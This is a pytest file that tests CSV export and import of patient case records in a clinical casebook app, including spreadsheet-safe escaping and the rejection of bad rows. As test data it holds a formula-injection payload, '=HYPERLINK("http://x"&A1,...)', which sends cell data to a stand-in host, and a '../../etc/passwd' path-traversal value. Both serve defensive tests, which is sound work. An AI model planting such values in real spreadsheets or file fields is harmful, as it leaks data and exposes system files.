"""The case as a folder of CSV files: export -> fresh store -> import gives back the same
case (allergies, plan items' substances and caution confirmations included), the cells
are spreadsheet-safe, a folder without the newer files and columns still imports, and a
bad row is refused whole, named by file, line and field, without its value."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path
from typing import get_origin

import pytest

from casebook.cli import main
from casebook.interop import case_from_json, case_to_json
from casebook.interop._case_csv_shape import RECORD_FILES
from casebook.interop.case_csv import case_csv_files, read_case_csv, write_case_csv
from casebook.interop.csv_io import CsvImportError
from casebook.models import (
    Allergy,
    Case,
    CautionConfirmation,
    HistoryEntry,
    LetterRecord,
    Note,
    PlanItem,
    SafetyFacts,
)
from casebook.store import CaseStore, import_case
from tests.interop.test_csv_safety import _unsafe

PAYLOAD = '=HYPERLINK("http://x"&A1,"x")'
SECRET = "Zyxwv Secretname"  # a patient name that must never reach an error


def _loaded(case: Case, tmp_path: Path, name: str = "source") -> Case:
    """`case` as a store gives it back (ids, versions and order as loaded)."""
    with CaseStore(f"sqlite:///{tmp_path / f'{name}.db'}", create=True, actor="src") as src:
        import_case(src, case)
        return src.load_case(case.patient.id)


def _rich(case: Case) -> Case:
    """`case` with allergies, a plan item with substances and confirmed cautions, text
    that would run as a formula, and a letter."""
    pid, day = case.patient.id, date(2024, 5, 2)
    item = PlanItem(
        patient_id=pid,
        category="herbal",
        name="Berberine capsules",
        start=day,
        substances=["berberine", "curcumin"],
        dose="-1 capsule if loose",
        caution_confirmations=[
            CautionConfirmation(
                key="berberine.pregnancy",
                reason="Obstetrician reviewed: benefit outweighs risk, stop at 12 weeks",
                by="dr a",
                advised_by=PAYLOAD,
                on=day,
            ),
            CautionConfirmation(
                key="berberine.cyp_pgp", reason="+ INR checked weekly\nby the GP", on=day
            ),
        ],
    )
    allergies = [
        HistoryEntry(
            patient_id=pid,
            data=Allergy(substance="penicillin", reaction="@hives", severity="moderate"),
        ),
        HistoryEntry(
            patient_id=pid,
            data=Allergy(substance="curcumin", recorded_on=day),
            notes="-reported by the patient",
        ),
        HistoryEntry(patient_id=pid, data=SafetyFacts(pregnant=True, recorded_on=day)),
    ]
    html = "<p>letter</p>"
    letter = LetterRecord(
        patient_id=pid,
        kind="referral",
        recipient="Dr Gut, Clinic",
        letter_date=day,
        content_hash=hashlib.sha256(html.encode()).hexdigest(),
        record_version=1,
        pdf=b"%PDF-1.4 not really a letter",
        created_at=datetime(2024, 5, 2, 10, 30, tzinfo=UTC),
    )
    note = Note(patient_id=pid, written_on=day, text=f"{PAYLOAD}\r\nsecond line")
    return case.model_copy(
        update={
            "history": [*case.history, *allergies],
            "plan": [*case.plan, item],
            "notes": [*case.notes, note],
            "letters": [letter],
        }
    )


@pytest.fixture(scope="module")
def rich(demo_cases: list[Case], tmp_path_factory: pytest.TempPathFactory) -> Case:
    return _loaded(_rich(demo_cases[1]), tmp_path_factory.mktemp("rich"))


def test_every_column_holds_one_value() -> None:
    """A list or dict field added to a model would not fit a cell: it needs a file of its
    own (as answers and confirmations have), or it would be written as its repr."""
    for spec in RECORD_FILES:
        for column, info in spec.columns().items():
            many = get_origin(info.annotation) in (list, dict)
            assert not many or column == "substances", f"{spec.name}: {column}"


def test_every_demo_case_comes_back_equal_through_a_fresh_store(
    demo_cases: list[Case], store: CaseStore, tmp_path: Path
) -> None:
    for case in demo_cases:
        source = _loaded(case, tmp_path, case.patient.id)
        folder = write_case_csv(source, tmp_path / f"{case.patient.id}-csv")
        assert import_case(store, read_case_csv(folder)) == "created"
        assert store.load_case(case.patient.id) == source
        assert store.load_case(case.patient.id).model_dump() == source.model_dump()


def test_allergies_substances_and_confirmations_come_back(
    rich: Case, store: CaseStore, tmp_path: Path
) -> None:
    assert any(isinstance(e.data, Allergy) for e in rich.history)
    assert any(i.substances and i.caution_confirmations for i in rich.plan)
    folder = write_case_csv(rich, tmp_path / "case")
    assert import_case(store, read_case_csv(folder)) == "created"
    assert store.load_case(rich.patient.id) == rich
    assert import_case(store, read_case_csv(folder)) == "unchanged"


def test_the_json_export_carries_them_too(rich: Case, store: CaseStore) -> None:
    assert import_case(store, case_from_json(case_to_json(rich))) == "created"
    assert store.load_case(rich.patient.id) == rich


def test_no_cell_can_run_as_a_formula_and_text_reads_back(rich: Case) -> None:
    files = case_csv_files(rich)
    for body in files.values():
        if isinstance(body, str):
            assert _unsafe(list(csv.reader(io.StringIO(body, newline="")))) == []
    assert "'" + PAYLOAD.replace('"', '""') in str(files["plan_confirmations.csv"])
    assert "penicillin,'@hives,moderate" in str(files["history_allergy.csv"])
    assert "berberine;curcumin" in str(files["plan.csv"])


def _drop_columns(path: Path, *names: str) -> None:
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    keep = [i for i, h in enumerate(rows[0]) if h not in names]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([[r[i] for i in keep] for r in rows])
    path.write_text(out.getvalue(), encoding="utf-8")


def test_a_folder_without_the_newer_files_and_columns_still_imports(
    rich: Case, tmp_path: Path
) -> None:
    folder = write_case_csv(rich, tmp_path / "case")
    for name in ("history_allergy.csv", "plan_confirmations.csv", "letters.csv"):
        (folder / name).unlink()
    _drop_columns(folder / "plan.csv", "substances", "no_substance_reason", "patient_name")
    _drop_columns(folder / "patient.csv", "version", "record_version")
    back = read_case_csv(folder)
    assert [e for e in back.history if isinstance(e.data, Allergy)] == []
    assert all(i.substances == [] and i.caution_confirmations == [] for i in back.plan)
    assert back.patient.version == 0 and back.letters == []
    assert back.visits == rich.visits and back.results == rich.results


def _bad(folder: Path, name: str, line: int, column: str, value: str) -> None:
    path = folder / name
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    rows[line - 1][rows[0].index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


@pytest.mark.parametrize(
    ("name", "column", "value", "said"),
    [
        ("history_allergy.csv", "data.severity", SECRET, "line 2: data.severity: Input should"),
        ("plan.csv", "substances", f"berberine;{SECRET}", "line 2: substances.1: String"),
        ("plan_confirmations.csv", "plan_item_id", "f" * 32, "line 2: plan_item_id: is not"),
        ("plan_confirmations.csv", "reason", "", "line 2: reason: is missing or empty"),
        ("instrument_answers.csv", "value", SECRET, "line 2: value: is not a whole number"),
        ("symptoms.csv", "visit_id", "e" * 32, "line 2: row: visit_id is not a visit"),
        ("patient.csv", "birth_date", SECRET, "line 2: birth_date: Input should be a valid"),
        ("letters.csv", "pdf", "../../etc/passwd", "line 2: pdf: is not the name of a letter"),
    ],
)
def test_a_bad_row_names_file_line_and_field_and_nothing_is_imported(
    rich: Case, store: CaseStore, tmp_path: Path, name: str, column: str, value: str, said: str
) -> None:
    case = rich.model_copy(update={"patient": rich.patient.model_copy(update={"name": SECRET})})
    folder = write_case_csv(case, tmp_path / "case")
    _bad(folder, name, 2, column, value)
    with pytest.raises(CsvImportError) as caught:
        read_case_csv(folder)
    message = str(caught.value)
    assert message.startswith(f"{folder / name}: 1 bad row, nothing was imported")
    assert said in message
    assert SECRET not in message and "Zyxwv" not in message
    assert store.patients() == []


def test_a_file_or_column_the_reader_does_not_know_is_refused(rich: Case, tmp_path: Path) -> None:
    folder = write_case_csv(rich, tmp_path / "case")
    (folder / "allergies.csv").write_text("substance\npenicillin\n", encoding="utf-8")
    with pytest.raises(
        CsvImportError, match=r"(?s)allergies\.csv: cannot be read.*it would be lost"
    ):
        read_case_csv(folder)
    (folder / "allergies.csv").unlink()
    _bad(folder, "notes.csv", 1, "text", "txet")
    with pytest.raises(CsvImportError, match=r"unknown column\(s\): txet"):
        read_case_csv(folder)


def test_export_refuses_a_folder_that_holds_files(rich: Case, tmp_path: Path) -> None:
    (tmp_path / "case").mkdir()
    (tmp_path / "case" / "old.txt").write_text("x", encoding="utf-8")
    with pytest.raises(ValueError, match="not an empty folder"):
        write_case_csv(rich, tmp_path / "case")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["case"]


def test_the_command_line_round_trip(
    demo_cases: list[Case], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src, dst = f"sqlite:///{tmp_path / 'a.db'}", f"sqlite:///{tmp_path / 'b.db'}"
    pid = demo_cases[0].patient.id
    case_file = tmp_path / "case.json"
    case_file.write_text(case_to_json(demo_cases[0]), encoding="utf-8")
    for url in (src, dst):
        CaseStore(url, create=True).close()
    assert main(["import", "case", str(case_file), "--db", src]) == 0
    out = tmp_path / "out"
    assert main(["export", pid, "--format", "csv", "--out", str(out), "--db", src]) == 0
    assert main(["import", "csv", str(out), "--db", dst]) == 0
    assert f"case {pid}: created" in capsys.readouterr().out
    with CaseStore(src) as a, CaseStore(dst) as b:
        assert json.loads(case_to_json(a.load_case(pid))) == json.loads(
            case_to_json(b.load_case(pid))
        )
    assert main(["export", pid, "--format", "csv", "--db", src]) == 1
    assert "--out DIR" in capsys.readouterr().err
